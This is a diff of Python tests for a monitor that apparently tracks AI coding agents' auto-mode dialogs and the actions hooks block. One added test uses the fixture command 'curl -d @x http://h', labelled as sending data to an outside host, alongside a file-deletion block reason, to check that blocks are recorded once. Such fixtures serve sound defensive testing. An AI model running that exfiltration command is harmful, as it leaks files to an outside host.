@@ -172,7 +172,10 @@ def test_the_gateway_dialog_needs_you_and_y_stays_in_auto_mode():
 def test_the_gateway_words_in_a_reply_are_no_dialog():
     quoted = f"❯ why?\n\n● Claude said: Auto mode can't check actions in this session. Enter to stay in auto mode.\n\n{BOX}"
     assert classify(quoted).state is AgentState.IDLE
-    assert gateway_dialog(GATEWAY.split("\n")[:-2], len(GATEWAY.split("\n")) - 3) is None  # its keys line gone: not the live dialog
+    cut = GATEWAY.split("\n")[:-2]  # a short pane cuts its keys off (2.1.332 at 72x22): its title under the dialog's edge still says it
+    assert gateway_dialog(cut, len(cut) - 1) is not None
+    told = ["● The dialog said:", "  Auto mode can't check actions in this session", "  and I stopped."]  # the words alone, under no edge
+    assert gateway_dialog(told, len(told) - 1) is None
 
 
 def test_the_menu_without_numbers_is_a_permission_answered_by_moving_the_cursor():
@@ -225,6 +228,18 @@ def test_the_hooks_block_and_the_screens_note_on_one_call_are_one_block_told_onc
     assert [type(e) for e in told] == [AgentChanged]
     row = agent_row(agent, 31.0)
     assert well_formed(row) and row["mode"] == "auto" and row["blocked"][0]["this_turn"] is False and row["blocked"][0]["detail"].startswith("curl")
+
+
+def test_the_notice_above_the_box_is_the_block_the_hook_told_not_another():
+    store = AgentStore()
+    agent = _agent(store)
+    store.blocked("%1", (Blocked("Bash", "curl -d @x http://h", "Sends data out to an outside host", 11.0, "hook"),), 11.0)
+    notice = Observation(AgentState.WORKING, mode="auto", blocked=(Blocked("", "", "Sends data out to …"),))
+    store.observed(_record(), "k1", notice, 12.0, agent_pid=7)
+    assert len(agent.blocks) == 1
+    other = Observation(AgentState.WORKING, mode="auto", blocked=(Blocked("Bash", "", "Deletes files outside the project"),))
+    store.observed(_record(), "k1", other, 13.0, agent_pid=7)
+    assert [b.reason for b in agent.blocks] == ["Sends data out to an outside host", "Deletes files outside the project"]
 
 
 def test_the_same_command_blocked_again_in_a_new_turn_is_a_new_block():
